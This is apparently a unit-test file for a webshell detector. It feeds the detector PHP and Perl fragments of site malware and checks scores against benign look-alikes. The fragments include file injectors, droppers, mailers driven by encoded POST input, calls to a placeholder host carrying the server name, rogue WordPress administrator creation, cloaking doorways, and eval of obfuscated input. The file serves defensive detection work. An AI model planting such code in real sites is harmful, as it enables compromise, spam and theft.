// What whole attacks leave in sites: injectors, droppers, mailers, doorways, hidden hosts.
// Look-alikes by recipe, each beside what an honest script does.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "agent/base/base64.h"
#include "tests/unit/match/webshell_recipe.h"

namespace konseki::webshell {
namespace {

using testing::Contains;
using testing::Not;

std::string base64(const std::string& text) {
  return base64_encode(std::as_bytes(std::span(text.data(), text.size())));
}

TEST(WebshellSites, FilesThatAreLookedFor) {
  const std::string put = "($f, file_get_contents($f) . base64_decode(" + kPost + "['z']));";
  const std::string walk = "$d = opendir('.'); while ($n = readdir($d)) { $f = './' . $n; ";
  EXPECT_GE(score_of(walk + "file_put_contents" + put + " }"), 70);
  EXPECT_GE(score_of("foreach (glob('*.php') as $f) file_put_contents" + put), 70);
  EXPECT_GE(score_of("foreach (scandir('.') as $f) file_put_contents($f, str_replace('<body>', "
                     "'<body><script src=//192.0.2.1/a.js></script>', file_get_contents($f)));"),
            30);
  EXPECT_LT(score_of(walk + "file_put_contents($f . '/index.html', ''); }"), 30);
  EXPECT_LT(score_of("function pack_all($dir) { foreach (glob(\"$dir/*.js\") as $f) "
                     "file_put_contents($f, shorter(file_get_contents($f))); }"),
            30);
}

TEST(WebshellSites, ProgramsInTexts) {
  const auto dropped = [](const std::string& content) {
    return "$f = fopen('a', 'w'); fwrite($f, base64_decode('" + base64(content) + "'));";
  };
  EXPECT_THAT(seen_in(dropped("#!/usr/bin/perl\nuse Socket;\nprint 1;\n")),
              Contains("code.write_script"));
  EXPECT_THAT(seen_in(dropped(std::string("PK\x03\x04\x14\x00", 6) + "aaaa")),
              Contains("code.write_script"));
  EXPECT_GE(score_of(dropped("<head><meta http-equiv=\"refresh\" content=\"0;URL=//192.0.2.1\">")),
            30);
  EXPECT_LT(score_of(dropped("GIF89a\x01\x01 a picture of one point")), 30);
}

TEST(WebshellSites, MailersThatGetTheirOrdersEncoded) {
  const std::string rest = ", " + kPost + "['s'], " + kPost + "['b']);";
  EXPECT_GE(score_of("mail(base64_decode(" + kPost + "['t'])" + rest), 70);
  EXPECT_GE(score_of("mb_send_mail(" + kPost + "['t']" + rest), 30);
  EXPECT_LT(score_of("mb_send_mail('office@example.org'" + rest), 30);
}

TEST(WebshellSites, MessagesThatAreARequestsWhole) {
  const std::string message = kPost + "['t'], " + kPost + "['s'], ";
  EXPECT_GE(score_of("mail(" + message + kPost + "['b']);"), 70);
  EXPECT_LT(score_of("mail(" + message + "'Dear friend, ' . " + kPost + "['b']);"), 70);
}

TEST(WebshellSites, IncludesThatAreHidden) {
  EXPECT_THAT(seen_in("@include \"\\x2f\\x68\\x6f\\x6d\\x65\\x2f\\x61\";"),
              Contains("code.include_strange"));
  EXPECT_THAT(seen_in("require __DIR__ . \"\\057\\143\\141\\143\\150\\145\";"),
              Contains("code.include_strange"));
  EXPECT_THAT(seen_in("include '/home/a'; include \"$d/a.php\"; echo \"\\x41\\x42\\x43\\x44\";"),
              Not(Contains("code.include_strange")));
}

TEST(WebshellSites, MailersThatHideWhoMails) {
  EXPECT_GE(score_of("ini_set('mail.add_x_header', '0'); mail('a@example.org', 'a', 'b');"), 30);
  EXPECT_LT(score_of("ini_set('memory_limit', '64M'); mail('a@example.org', 'a', 'b');"), 30);
}

TEST(WebshellSites, HostsThatAreHidden) {
  const std::string host = "base64_decode('" + base64("http://192.0.2.1/links/") + "')";
  EXPECT_GE(score_of("echo file_get_contents(" + host + ");"), 70);
  EXPECT_GE(score_of("$u = " + host +
                     " . 'a.php?d=' . $_SERVER['SERVER_NAME']; "
                     "$c = curl_init(); curl_setopt($c, 10002, $u); echo curl_exec($c);"),
            70);
  EXPECT_GE(score_of("$c = curl_init(); curl_setopt_array($c, array(CURLOPT_URL => dirname(" +
                     host + ") . '/x')); echo curl_exec($c);"),
            70);
  EXPECT_LT(score_of("echo file_get_contents('http://192.0.2.1/links/');"), 30);
  EXPECT_LT(score_of("echo file_get_contents('http://192.0.2.1/?q=' . urldecode('a%20b'));"), 30);
}

TEST(WebshellSites, TransfersByListsOfOptions) {
  const std::string options = "array(CURLOPT_RETURNTRANSFER => 1, CURLOPT_URL => ";
  EXPECT_THAT(seen_in("curl_setopt_array($c, " + options + kPost + "['u'])); curl_exec($c);"),
              Contains("code.connect_input"));
  EXPECT_THAT(seen_in("curl_setopt_array($c, " + options + "'http://192.0.2.1/?' . " + kPost +
                      "['u'])); curl_exec($c);"),
              Not(Contains("code.connect_input")));
}

TEST(WebshellSites, AdministratorsOutOfNothing) {
  const std::string start = "require 'wp-blog-header.php'; ";
  EXPECT_GE(score_of(start + "$u = get_user_by('login', 'a'); $u->set_role('administrator');"), 70);
  EXPECT_GE(score_of(start + "wp_insert_user(array('user_login' => 'a', 'user_pass' => 'b', "
                             "'role' => 'administrator'));"),
            70);
  EXPECT_LT(score_of(start + "wp_insert_user(array('user_login' => 'a', 'role' => 'author'));"),
            30);
  EXPECT_LT(score_of("class Setup { function run($u) { $u->set_role('administrator'); } }"), 30);
}

TEST(WebshellSites, DoorwaysThatKnowRobots) {
  const std::string asks = "if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) ";
  EXPECT_GE(score_of(asks + "die(file_get_contents('http://192.0.2.1/' . $n . '.csv'));"), 30);
  EXPECT_LT(score_of(asks + "die('no robots here');"), 30);
}

TEST(WebshellSites, HiddenNamesThatAreCalledBack) {
  EXPECT_GE(score_of("$a = strrev('teg_noitpo'); $b = strrev('tpircs_eueuqne'); "
                     "call_user_func($a, 'home'); call_user_func_array($b, array('x'));"),
            70);
  EXPECT_GE(score_of("function clean($s) { return call_user_func_array(strrev('ecalper_rts'), "
                     "array('..', '', $s)); } $f = clean('as..se..rt'); $f(" +
                     kPost + "['c']);"),
            70);
  EXPECT_LT(score_of("call_user_func('get_option', 'home'); "
                     "call_user_func_array('array_merge', array(array(1), array(2)));"),
            30);
}

// Own decoders shift what they gather.
TEST(WebshellSites, ShiftsThatAreAssigned) {
  EXPECT_THAT(
      seen_in("function un($t) { $v = 0; $n = 0; $o = ''; for ($i = 0; $i < strlen($t); $i++) { "
              "$v <<= 4; $v += ord($t[$i]) - 97; $n += 4; if ($n == 8) { $o .= chr($v); "
              "$v = 0; $n = 0; } } return $o; } " +
              kEval + "(un('gfhggbgmcicefpfaepfdfeflchgdchfncjdl'));"),
      Contains("code.run_input"));
}

// What a loop gathers goes on growing while it makes short texts on its way.
TEST(WebshellSites, LongTextsOfOwnDecoders) {
  std::string hex;
  for (const char c : kEval + "(" + kPost + "['c']); //" + std::string(5000, 'a')) {
    hex += "0123456789abcdef"[static_cast<unsigned char>(c) >> 4];
    hex += "0123456789abcdef"[c & 15];
  }
  EXPECT_THAT(seen_in("function un($p) { $r = ''; for ($i = 0; $i < strlen($p); $i += 2) { "
                      "$r .= chr(hexdec($p[$i] . $p[$i + 1])); } return $r; } " +
                      kEval + "(un('" + hex + "'));"),
              Contains("code.run_input"));
}

TEST(WebshellSites, NamesOfOtherPrograms) {
  const auto seen = [](const std::string& code) {
    std::vector<std::string> names;
    for (const Witness& witness :
         analyse("#!/usr/bin/perl\nuse IO::Socket;\n" + code, "a.pl").witnesses)
      names.push_back(witness.name);
    return names;
  };
  EXPECT_THAT(seen("$0 = '/usr/sbin/httpd -k start'; run();"), Contains("code.disguise"));
  EXPECT_THAT(seen("my @n = ('a', 'b'); my $p = $n[rand @n]; $0 = $p; run();"),
              Contains("code.disguise"));
  EXPECT_THAT(seen("$0 = \"$p\" . \"\\0\" x 16; run();"), Contains("code.disguise"));
  EXPECT_THAT(seen("$0 = 'own-daemon: worker'; run();"), Not(Contains("code.disguise")));
  EXPECT_THAT(seen("my $p = 'own-daemon'; $0 = $p; if ($0 eq 'httpd') { run(); }"),
              Not(Contains("code.disguise")));
}

TEST(WebshellSites, VariablesByNamesInTexts) {
  std::string code;
  for (char name = 'a'; name < 'k'; ++name)
    code += std::string("${\"GLO\\x42ALS\"}['") + name + "x'] = 'v'; ";
  EXPECT_GE(score_of(code + "echo 1;"), 30);
  EXPECT_LT(score_of("$GLOBALS['ax'] = 'v'; ${'GLOBALS'}['bx'] = 'v'; echo 1;"), 30);
}

}  // namespace
}  // namespace konseki::webshell
